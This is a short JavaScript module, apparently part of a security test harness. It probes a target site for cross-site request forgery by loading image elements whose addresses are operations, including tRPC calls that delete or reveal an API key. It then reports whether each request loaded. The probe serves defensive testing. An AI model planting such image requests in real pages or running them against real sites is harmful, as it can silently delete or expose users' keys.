// Images with an operation as their address.
import { attack, key, reads, report, target, writes } from './kit.js';

attack(async () => {
  const addresses = [
    ...reads,
    ...writes.map(([, path]) => path),
    `/trpc/keys.delete?input=${encodeURIComponent(JSON.stringify({ id: Number(key) }))}`,
    `/trpc/keys.reveal?input=${encodeURIComponent(JSON.stringify({ id: Number(key) }))}`,
  ];
  for (const path of addresses) {
    const image = new Image();
    const ended = new Promise((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('failed');
    });
    image.src = target + path;
    await report(`image ${await ended} ${path}`);
  }
});
